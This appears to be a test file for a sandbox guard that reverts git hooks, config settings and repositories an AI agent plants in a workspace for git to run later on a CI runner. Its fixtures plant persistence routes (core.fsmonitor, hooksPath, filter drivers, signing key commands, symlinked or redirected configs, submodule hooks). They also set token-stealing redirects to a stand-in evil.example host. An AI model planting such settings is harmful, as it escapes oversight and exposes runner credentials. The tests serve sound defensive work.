/**
 * What the agent leaves in the workspace's git directories for git to run later on the
 * runner is taken back after the run; everything else the agent did to the repository stays.
 * Checked with the real git: before the guard, `git status` runs the planted program; after
 * it, nothing runs.
 */
import { execFileSync } from 'node:child_process'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { revertGitExec, snapshotGitExec } from '../../src/sandbox/git-exec-guard.js'

let ws: string
let marker: string
const git = (...args: string[]): string =>
  execFileSync('git', args, {
    cwd: ws,
    encoding: 'utf8',
    env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: ws }
  })

beforeEach(() => {
  ws = mkdtempSync(join(tmpdir(), 'airlock-gitexec-'))
  marker = join(ws, '..', `${ws.split('/').pop()}-ran`)
  git('init', '-q')
  git('config', 'user.name', 'Maintainer')
  // A setting the repository had before the run stays as it is.
  git('config', 'core.pager', 'less -R')
  writeFileSync(join(ws, 'a.txt'), 'a\n')
})
afterEach(() => {
  rmSync(ws, { recursive: true, force: true })
  rmSync(marker, { force: true })
})

const payload = (): string => `touch ${marker}`

/** Runs what a later step would (status, a commit) and says whether the payload ran. */
function laterStepRanPayload(): boolean {
  try {
    git('status', '--short')
    git('add', '-A')
    git('-c', 'user.email=m@example.com', 'commit', '-qm', 'later step', '--allow-empty')
  } catch {
    // a repository the guard made unusable fails closed: nothing ran
  }
  return existsSync(marker)
}

const plants: Array<[string, () => void]> = [
  ['core.fsmonitor', () => git('config', 'core.fsmonitor', payload())],
  [
    'core.hooksPath to a directory of the agent’s',
    () => {
      mkdirSync(join(ws, 'h'))
      writeFileSync(join(ws, 'h', 'pre-commit'), `#!/bin/sh\n${payload()}\n`, { mode: 0o755 })
      git('config', 'core.hooksPath', join(ws, 'h'))
    }
  ],
  [
    'a new .git/hooks/pre-commit',
    () =>
      writeFileSync(join(ws, '.git', 'hooks', 'pre-commit'), `#!/bin/sh\n${payload()}\n`, {
        mode: 0o755
      })
  ],
  [
    'a filter driver with .gitattributes',
    () => {
      writeFileSync(join(ws, '.gitattributes'), '*.txt filter=x\n')
      git('config', 'filter.x.clean', `sh -c '${payload()}; cat'`)
      writeFileSync(join(ws, 'a.txt'), 'changed\n')
    }
  ],
  [
    // A subsection keeps its case in git; folded, the guard would unset another setting.
    'a filter driver in a capitalised subsection (filter.EVIL)',
    () => {
      writeFileSync(join(ws, '.gitattributes'), '*.txt filter=EVIL\n')
      git('config', 'filter.EVIL.clean', `sh -c '${payload()}; cat'`)
      writeFileSync(join(ws, 'a.txt'), 'changed\n')
    }
  ],
  [
    'gpg.ssh.defaultKeyCommand with SSH-signed commits',
    () => {
      git('config', 'commit.gpgSign', 'true')
      git('config', 'gpg.format', 'ssh')
      git('config', 'gpg.ssh.defaultKeyCommand', `sh -c '${payload()}; echo key::ssh-ed25519 AAAA'`)
    }
  ],
  [
    'include.path to a config of the agent’s',
    () => {
      writeFileSync(join(ws, 'evil.cfg'), `[core]\n\tfsmonitor = ${payload()}\n`)
      git('config', 'include.path', join(ws, 'evil.cfg'))
    }
  ],
  [
    '.git/config replaced by a link to a config of the agent’s',
    () => {
      const evil = join(ws, 'evil-config')
      writeFileSync(
        evil,
        `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = ${payload()}\n`
      )
      rmSync(join(ws, '.git', 'config'))
      symlinkSync(evil, join(ws, '.git', 'config'))
    }
  ],
  [
    '.git replaced by a gitfile to a repository of the agent’s',
    () => {
      renameSync(join(ws, '.git'), join(ws, 'evil.git'))
      execFileSync('git', [
        'config',
        '-f',
        join(ws, 'evil.git', 'config'),
        'core.fsmonitor',
        payload()
      ])
      writeFileSync(join(ws, '.git'), `gitdir: ${join(ws, 'evil.git')}\n`)
    }
  ]
]

describe('git settings and hooks the run leaves for the runner', () => {
  it.each(plants)(
    '%s: would run in a later step, and no longer does after the guard',
    (_, plant) => {
      // Control: the plant really runs the payload on the runner without the guard.
      plant()
      expect(laterStepRanPayload()).toBe(true)
    }
  )

  it.each(plants)('%s: taken back and reported', (_, plant) => {
    const snapshot = snapshotGitExec(ws, [])
    plant()
    const findings = revertGitExec(snapshot)
    expect(findings.length).toBeGreaterThan(0)
    expect(laterStepRanPayload()).toBe(false)
  })

  it('keeps what the agent may change, and the settings that were there before', () => {
    const snapshot = snapshotGitExec(ws, [])
    git('config', 'user.name', 'Agent')
    git('config', 'alias.st', 'status')
    git('checkout', '-qb', 'agent-branch')
    expect(revertGitExec(snapshot)).toEqual([])
    expect(git('config', 'user.name').trim()).toBe('Agent')
    expect(git('config', 'alias.st').trim()).toBe('status')
    expect(git('config', 'core.pager').trim()).toBe('less -R')
  })

  it('restores an executable setting the run changed to its earlier value', () => {
    const snapshot = snapshotGitExec(ws, [])
    git('config', 'core.pager', payload())
    git('config', 'alias.x', `!${payload()}`)
    const findings = revertGitExec(snapshot).map((f) => f.what)
    expect(findings).toEqual(
      expect.arrayContaining([
        'removed core.pager, which the run set',
        'removed alias.x, which the run set'
      ])
    )
    expect(git('config', 'core.pager').trim()).toBe('less -R')
    expect(() => git('config', 'alias.x')).toThrow()
  })

  it('takes back settings that send git’s credentials elsewhere, in their own spelling', () => {
    git('remote', 'add', 'origin', 'https://github.com/octo/repo')
    const snapshot = snapshotGitExec(ws, [])
    git('config', 'url.https://Evil.example/.insteadOf', 'https://x-access-token:')
    git('config', 'remote.origin.url', 'https://evil.example/octo/repo')
    git('config', 'remote.origin.pushurl', 'https://evil.example/octo/repo')
    git('config', 'http.proxy', 'http://evil.example:8080')
    git('config', 'http.https://github.com/.sslVerify', 'false')
    git('config', 'http.sslCAInfo', join(ws, 'evil-ca.pem'))
    git('config', 'http.curloptResolve', 'github.com:443:203.0.113.7')
    git('config', 'lfs.url', 'https://evil.example/lfs')
    git('config', 'remote.origin.lfsPushUrl', 'https://evil.example/lfs')
    git('config', 'lfs.https://evil.example/lfs.access', 'basic')
    git('config', 'http.cookieFile', '/home/runner/.bashrc')
    git('config', 'http.saveCookies', 'true')
    const findings = revertGitExec(snapshot)
    expect(findings.every((f) => f.route)).toBe(true)
    expect(findings.map((f) => f.what).sort()).toEqual(
      [
        'http.cookiefile',
        'http.curloptresolve',
        'http.https://github.com/.sslverify',
        'http.proxy',
        'http.savecookies',
        'http.sslcainfo',
        'lfs.https://evil.example/lfs.access',
        'lfs.url',
        'remote.origin.lfspushurl',
        'remote.origin.pushurl',
        'remote.origin.url',
        'url.https://Evil.example/.insteadof'
      ].map((k) => `removed ${k}, which the run set`)
    )
    expect(git('config', '--list')).not.toMatch(
      /evil|sslverify|curloptresolve|sslcainfo|proxy|lfs|cookie/i
    )
    // The remote URL the repository had before the run is put back.
    expect(git('config', 'remote.origin.url').trim()).toBe('https://github.com/octo/repo')
  })

  it('moves aside a repository the run made where there was none, and nothing else', () => {
    const sub = join(ws, 'app')
    mkdirSync(sub)
    const inSub = (...args: string[]): string =>
      execFileSync('git', args, {
        cwd: sub,
        encoding: 'utf8',
        env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: ws }
      })
    // Untouched: nothing to report.
    expect(revertGitExec(snapshotGitExec(sub, []))).toEqual([])
    const snapshot = snapshotGitExec(sub, [])
    inSub('init', '-q')
    inSub('config', 'core.fsmonitor', payload())
    const findings = revertGitExec(snapshot)
    expect(findings.map((f) => f.what)).toEqual([
      expect.stringMatching(
        /^a git directory \(or gitfile\) the run made at the workspace root; moved aside/
      )
    ])
    // git run there now finds the checkout's repository around it, and runs nothing planted.
    inSub('status', '--short')
    expect(existsSync(marker)).toBe(false)
  })

  it('moves aside a config it cannot list whole (padded past what it reads)', () => {
    const snapshot = snapshotGitExec(ws, [])
    git('config', 'core.fsmonitor', payload())
    writeFileSync(
      join(ws, '.git', 'config'),
      `[pad]\n${'\tk = xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n'.repeat(1_500_000)}`,
      { flag: 'a' }
    )
    const findings = revertGitExec(snapshot)
    expect(findings.map((f) => f.what)).toEqual([
      expect.stringMatching(/^config cannot be read whole .*; moved aside/)
    ])
    expect(laterStepRanPayload()).toBe(false)
  })

  it('moves aside a repository the run added to the index as a gitlink', () => {
    const evil = join(ws, 'evil')
    mkdirSync(evil)
    const inEvil = (...args: string[]): string =>
      execFileSync('git', args, {
        cwd: evil,
        encoding: 'utf8',
        env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: ws }
      })
    const snapshot = snapshotGitExec(ws, [])
    inEvil('init', '-q')
    writeFileSync(join(evil, 'b'), 'b\n')
    inEvil('add', 'b')
    inEvil('-c', 'user.email=a@example.com', 'commit', '-qm', 'b')
    inEvil('config', 'core.fsmonitor', payload())
    git('add', 'evil')
    // Control: git status in the root enters it and runs its fsmonitor.
    git('status', '--short')
    expect(existsSync(marker)).toBe(true)
    rmSync(marker)
    const findings = revertGitExec(snapshot)
    expect(findings.map((f) => f.what)).toEqual([
      expect.stringMatching(/^a repository the run made at a gitlink of the index/)
    ])
    expect(laterStepRanPayload()).toBe(false)
    // A gitlink whose repository was there before the run is left as it is.
    const again = snapshotGitExec(ws, [])
    expect(revertGitExec(again)).toEqual([])
  })

  // As root (this test) permissions do not bind; red-team 81.8 runs it as the runner's uid.
  it('takes back what it must though the run made the git directories read-only', () => {
    const snapshot = snapshotGitExec(ws, [])
    git('config', 'core.fsmonitor', payload())
    writeFileSync(join(ws, '.git', 'hooks', 'pre-commit'), `#!/bin/sh\n${payload()}\n`, {
      mode: 0o755
    })
    chmodSync(join(ws, '.git', 'hooks'), 0o555)
    chmodSync(join(ws, '.git'), 0o555)
    const findings = revertGitExec(snapshot).map((f) => f.what)
    expect(findings).toEqual(
      expect.arrayContaining([
        'removed core.fsmonitor, which the run set',
        expect.stringMatching(/^the run added the hook pre-commit; moved aside/)
      ])
    )
    expect(laterStepRanPayload()).toBe(false)
  })

  it('moves aside a submodule repository the run made under .git/modules', () => {
    const before = join(ws, '.git', 'modules', 'kept')
    mkdirSync(before, { recursive: true })
    writeFileSync(join(before, 'HEAD'), 'ref: refs/heads/main\n')
    const snapshot = snapshotGitExec(ws, [])
    const made = join(ws, '.git', 'modules', 'libs', 'evil')
    mkdirSync(join(made, 'hooks'), { recursive: true })
    writeFileSync(join(made, 'HEAD'), 'ref: refs/heads/main\n')
    writeFileSync(join(made, 'hooks', 'post-checkout'), `#!/bin/sh\n${payload()}\n`, {
      mode: 0o755
    })
    const findings = revertGitExec(snapshot)
    expect(findings.map((f) => [f.path, f.what.replace(/ to .*/, '')])).toEqual([
      [
        '.git/modules/libs/evil',
        'a submodule repository the run made under .git/modules (git submodule update would use it); moved aside'
      ]
    ])
    expect(existsSync(made)).toBe(false)
    expect(existsSync(before)).toBe(true)
  })

  it('moves a changed hook aside without following a link', () => {
    const hook = join(ws, '.git', 'hooks', 'post-checkout')
    writeFileSync(hook, '#!/bin/sh\nexit 0\n', { mode: 0o755 })
    const snapshot = snapshotGitExec(ws, [])
    writeFileSync(hook, `#!/bin/sh\n${payload()}\n`)
    chmodSync(hook, 0o755)
    const outside = join(ws, '..', `${ws.split('/').pop()}-outside`)
    writeFileSync(outside, 'keep me')
    symlinkSync(outside, join(ws, '.git', 'hooks', 'pre-push'))
    const findings = revertGitExec(snapshot)
    expect(findings.map((f) => f.path).sort()).toEqual([
      '.git/hooks/post-checkout',
      '.git/hooks/pre-push'
    ])
    const names = readdirSync(join(ws, '.git', 'hooks'))
    expect(names).not.toContain('post-checkout')
    expect(names).not.toContain('pre-push')
    expect(existsSync(outside)).toBe(true)
    rmSync(outside)
  })
})
